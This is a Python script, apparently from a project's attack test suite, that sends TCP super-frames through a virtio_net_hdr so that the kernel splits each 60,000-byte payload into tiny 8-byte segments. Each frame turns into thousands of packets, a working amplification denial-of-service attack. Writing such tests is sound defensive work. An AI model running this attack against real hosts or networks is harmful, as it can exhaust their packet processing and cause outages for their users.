# SPDX-License-Identifier: Apache-2.0
"""Send TCP super-frames (virtio_net_hdr, GSO) whose segments have some bytes each: one of them stands for thousands of
packets, which the next one who has to cut it makes."""

import argparse
import itertools
import socket
import struct

from tests.attacks import packet

ETH_P_IP = 0x0800
NEEDS_CSUM, GSO_TCPV4 = 1, 1  # <linux/virtio_net.h>
_ETHERNET, _IP, _TCP, _CHECKSUM_AT = 14, 20, 20, 16


def super_frame(macs: tuple[str, str], addresses: tuple[str, str], payload: int, segment: int) -> bytes:
    """A virtio_net_hdr and a super-frame, from the first MAC and IPv4 address to the second. The kernel that takes it
    is asked to fill in the checksum of each segment."""
    source, destination = (socket.inet_aton(address) for address in addresses)
    length = _TCP + payload
    pseudo = source + destination + struct.pack("!HH", socket.IPPROTO_TCP, length)
    unfinished = ~packet.checksum(pseudo) & 0xFFFF
    tcp = struct.pack("!HHIIBBHHH", 40000, 9, 1, 1, _TCP // 4 << 4, 0x10, 500, unfinished, 0) + bytes(payload)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, _IP + length, 1, 0x4000, 64, socket.IPPROTO_TCP, 0)
    ip = ip[:10] + packet.checksum(ip + source + destination).to_bytes(2, "big") + source + destination
    start = _ETHERNET + _IP
    vnet = struct.pack("=BBHHHH", NEEDS_CSUM, GSO_TCPV4, start + _TCP, segment, start, _CHECKSUM_AT)
    return vnet + packet.ethernet(*macs, ETH_P_IP, ip + tcp)


def main() -> None:
    """Send them."""
    parser = argparse.ArgumentParser(prog="python -m tests.attacks.tiny_segments", description=__doc__)
    parser.add_argument("interface", help="the container's interface, e.g. eth0")
    parser.add_argument("source", help="its IPv4 address")
    parser.add_argument("to", help="MAC address of who gets them")
    parser.add_argument("destination", help="his IPv4 address")
    parser.add_argument("--payload", type=int, default=60_000, help="bytes in all (default: %(default)s)")
    parser.add_argument("--segment", type=int, default=8, help="bytes in each segment (default: %(default)s)")
    parser.add_argument("--count", type=int, default=1000, help="of super-frames (default: %(default)s)")
    parser.add_argument("--rate", type=float, default=100.0, help="super-frames a second (default: %(default)s)")
    given = parser.parse_args()
    macs, addresses = (packet.mac_of(given.interface), given.to), (given.source, given.destination)
    made = itertools.repeat(super_frame(macs, addresses, given.payload, given.segment), given.count)
    print(packet.stream(given.interface, made, given.rate, vnet=True), "super-frames were sent")


if __name__ == "__main__":
    main()
